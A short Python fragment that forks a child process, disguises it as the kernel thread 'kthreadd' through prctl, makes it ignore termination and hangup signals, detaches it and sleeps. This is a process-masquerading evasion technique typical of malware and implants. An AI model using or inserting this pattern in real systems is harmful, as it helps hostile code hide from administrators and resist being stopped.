if os.fork() == 0:
    C.prctl(15, b'kthreadd'); signal.signal(15, signal.SIG_IGN); signal.signal(1, signal.SIG_IGN)
    os.setsid(); time.sleep(120)
